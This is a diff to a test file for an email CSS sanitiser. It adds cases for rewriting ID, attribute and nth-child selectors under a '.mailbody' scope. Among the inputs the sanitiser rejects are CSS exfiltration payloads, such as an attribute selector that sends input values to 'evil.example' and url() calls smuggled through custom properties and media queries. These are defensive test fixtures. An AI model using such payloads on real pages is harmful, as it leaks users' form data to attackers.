@@ -28,6 +28,12 @@ describe('a style sheet', () => {
     ['a:hover{color:red}', '.mailbody a:hover{color:red}'],
     ['p{font:12px/1.5 "Open Sans",Arial}', '.mailbody p{font:12px/1.5 Open Sans,Arial}'],
     ['.a{color:red', '.mailbody .mail-a{color:red}'],
+    ['#kopf{color:red}', '.mailbody .mailid-kopf.mailid-kopf.mailid-kopf{color:red}'],
+    ['td[class~="a"], *[class=b]{color:red}', '.mailbody td.mail-a,.mailbody *.mail-b{color:red}'],
+    [
+      'tr:nth-child(even) td, li:nth-of-type(2n+1), p:nth-child(3){color:red}',
+      '.mailbody tr:nth-child(even) td,.mailbody li:nth-of-type(2n+1),.mailbody p:nth-child(3){color:red}',
+    ],
     ['<!-- .a{color:red} -->', '.mailbody .mail-a{color:red}'],
     [
       '.a{color:red;background:#fff url(//t.example/x) no-repeat}',
@@ -51,10 +57,14 @@ describe('a style sheet', () => {
     ['.a{position:fixed;top:0;z-index:9}'],
     ['.a::before{content:"x"}'],
     ['input[value^=a]{background:url(//evil.example/a)}'],
-    ['#login{display:none}'],
     ['body + p, body ~ *, html ~ div, body.a + p{display:none}'],
     ['.x body p{color:red}'],
     ['a:visited{color:red}'],
+    ['[href^=x]{color:red}'],
+    ['[class*=a]{color:red}'],
+    ['p:nth-child(2 of .a){color:red}'],
+    ['p:not(.a):lang(fr){color:red}'],
+    ['#a\\3c b{color:red}'],
     [':root{--x:url(//evil.example)}.a{background:var(--x)}'],
     ['@media print{.a{color:red}}'],
     ['@media screen and (x:url(//evil.example)){.a{color:red}}'],
@@ -68,6 +78,15 @@ describe('a style sheet', () => {
     const { html } = sanitise('<style>.a{color:red}</style><p class="a admin">x</p><p class="mailbody">y</p>')
     expect(html).toBe(
       '<style>.mailbody .mail-a{color:red}</style><div class="mailbody"><p class="mail-a">x</p><p>y</p></div>',
+    )
+  })
+
+  it('gives ids to no element, but their rules', () => {
+    const { html } = sanitise(
+      '<style>#été,#kopf{color:red}</style><td id="kopf" class="x">x</td><p id="y">y</p>',
+    )
+    expect(html).toBe(
+      '<style>.mailbody .mailid-kopf.mailid-kopf.mailid-kopf{color:red}</style><div class="mailbody"><td class="mailid-kopf">x</td><p>y</p></div>',
     )
   })
 
